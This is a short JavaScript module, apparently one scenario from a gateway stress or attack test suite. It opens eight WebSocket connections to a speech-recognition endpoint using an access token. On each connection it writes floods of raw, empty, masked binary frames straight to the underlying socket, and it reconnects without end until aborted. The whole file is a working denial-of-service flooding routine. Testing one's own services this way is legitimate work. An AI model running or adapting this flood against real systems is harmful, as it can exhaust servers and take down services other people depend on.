// WebSocket messages without end that are too small to be audio.
import { setTimeout as sleep } from 'node:timers/promises';
import WebSocket from 'ws';

export const about = 'One token opens 8 WebSockets and sends empty binary messages on each, as fast as they are taken.';

/** Empty, masked with zeros. */
const chunk = Buffer.concat(Array(10_000).fill(Buffer.of(0x82, 0x80, 0, 0, 0, 0)));

/** @param {import('../attack.mjs').Target} target */
export async function run({ gateway, address, signal }) {
  const url = `${gateway.http.replace(/^http/, 'ws')}/v10/asr/ring/cn_8k_common/short_stream?appkey=${gateway.appkey}`;
  const facts = { opened: 0, ended: 0, 'MB sent': 0 };
  let bytes = 0;
  const one = async () => {
    while (!signal.aborted) {
      const socket = new WebSocket(url, { headers: { 'X-Svc-Access-Token': gateway.token }, localAddress: address });
      const closed = new Promise((resolve) => socket.on('close', resolve));
      socket.on('error', () => {});
      socket.on('open', () => {
        facts.opened++;
        const bare = /** @type {{ _socket: import('node:net').Socket }} */ (/** @type {unknown} */ (socket))._socket;
        const send = () => {
          while (bare.writable && !signal.aborted) {
            bytes += chunk.length;
            if (!bare.write(chunk)) return;
          }
        };
        bare.on('drain', send);
        send();
      });
      const stop = () => socket.terminate();
      signal.addEventListener('abort', stop);
      await closed;
      signal.removeEventListener('abort', stop);
      facts.ended++;
      await sleep(20);
    }
  };
  await Promise.all(Array.from({ length: 8 }, one));
  facts['MB sent'] = Math.round(bytes / 1e6);
  return facts;
}
